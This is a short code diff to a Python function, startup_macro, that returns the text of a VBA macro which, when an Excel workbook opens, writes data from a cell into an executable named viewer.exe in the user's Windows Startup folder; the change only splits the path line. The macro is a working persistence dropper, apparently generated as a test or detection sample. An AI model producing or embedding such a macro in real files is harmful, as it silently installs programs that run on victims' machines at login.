@@ -46,8 +46,9 @@ def startup_macro() -> str:
     """Return VBA that would write bytes into the Startup folder when the workbook opens."""
     return (
         "Private Sub Workbook_Open()\r\n"
-        '  Dim p As String: p = Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\viewer.exe"\r\n'
-        "  Open p For Binary As #1\r\n  Put #1, , CStr(Range(\"A1\").Value)\r\n  Close #1\r\nEnd Sub\r\n"
+        '  Dim p As String: p = Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"\r\n'
+        '  p = p & "\\viewer.exe"\r\n'
+        '  Open p For Binary As #1\r\n  Put #1, , CStr(Range("A1").Value)\r\n  Close #1\r\nEnd Sub\r\n'
     )
 
 
